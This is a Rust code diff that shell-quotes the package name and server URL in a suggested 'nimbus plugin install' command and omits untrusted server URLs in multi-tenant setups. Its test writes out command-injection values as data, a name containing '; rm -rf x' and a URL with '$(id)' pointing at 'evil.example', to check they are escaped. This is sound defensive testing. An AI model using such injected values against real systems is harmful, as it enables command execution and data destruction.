@@ -2,11 +2,12 @@
 
 use std::path::PathBuf;
 
-use nimbus_core::{Error, ErrorCode};
+use nimbus_core::{Error, ErrorCode, shell_word};
 use nimbus_engine_model::PackageDescriptor;
 use nimbus_engine_ports::LoadError;
 
 use crate::lookup::PluginLookupError;
+use crate::tenancy::Tenancy;
 
 #[derive(Debug, thiserror::Error)]
 pub enum PluginError {
@@ -52,13 +53,17 @@ impl PluginError {
     }
 
     /// The error as the deployment sees it, for a package it asked for.
-    pub(crate) fn for_package(&self, descriptor: &PackageDescriptor) -> LoadError {
+    pub(crate) fn for_package(
+        &self,
+        descriptor: &PackageDescriptor,
+        tenancy: &Tenancy,
+    ) -> LoadError {
         let package = descriptor.package().to_owned();
         match self {
             Self::NotFound { source, .. } => LoadError::NotFound {
                 package,
                 version: descriptor.version.clone(),
-                reason: format!("{source}; {}", how_to_install(descriptor)),
+                reason: format!("{source}; {}", how_to_install(descriptor, tenancy)),
             },
             Self::Runtime { missing, help, .. } => LoadError::NotStarted {
                 package,
@@ -85,19 +90,20 @@ impl PluginError {
 const HOW_TO_ALLOW: &str = "an operator who accepts that names its package in \
                             engine.sandbox_providers";
 
-/// The command that installs what is missing.
-fn how_to_install(package: &PackageDescriptor) -> String {
+/// The command that installs what is missing. It will be pasted into a shell, and its words are the program's:
+/// of a stranger's, the server is not repeated at all.
+fn how_to_install(package: &PackageDescriptor, tenancy: &Tenancy) -> String {
     let version = package.version.as_ref();
     let version = version
         .map(|version| format!(" {version}"))
         .unwrap_or_default();
     let server = match package.download_url.as_str() {
-        "" => String::new(),
-        url => format!(" --server {url}"),
+        url if url.is_empty() || *tenancy != Tenancy::Single => String::new(),
+        url => format!(" --server {}", shell_word(url)),
     };
     format!(
         "`nimbus plugin install {}{version}{server}` installs it",
-        package.name
+        shell_word(&package.name)
     )
 }
 
@@ -154,15 +160,32 @@ mod tests {
             name: "thing".to_owned(),
             ..PackageDescriptor::default()
         };
-        let text = missing().for_package(&package).to_string();
+        let text = missing()
+            .for_package(&package, &Tenancy::Single)
+            .to_string();
         assert!(
             text.contains("`nimbus plugin install thing` installs it"),
             "{text}"
         );
         package.version = Some(semver::Version::new(1, 2, 3));
         package.download_url = "github://api.github.com/me".to_owned();
-        let text = missing().for_package(&package).to_string();
+        let text = missing()
+            .for_package(&package, &Tenancy::Single)
+            .to_string();
         let command = "nimbus plugin install thing 1.2.3 --server github://api.github.com/me";
         assert!(text.contains(command), "{text}");
+        // What a stranger says is neither run nor asked for by whoever pastes the line.
+        package.name = "thing; rm -rf x".to_owned();
+        package.download_url = "https://evil.example/$(id)".to_owned();
+        let text = missing()
+            .for_package(&package, &Tenancy::Single)
+            .to_string();
+        let command =
+            "plugin install 'thing; rm -rf x' 1.2.3 --server 'https://evil.example/$(id)'`";
+        assert!(text.contains(command), "{text}");
+        let strangers = Tenancy::Several { providers: None };
+        let text = missing().for_package(&package, &strangers).to_string();
+        assert!(text.contains("1.2.3` installs it"), "{text}");
+        assert!(!text.contains("evil.example"), "{text}");
     }
 }
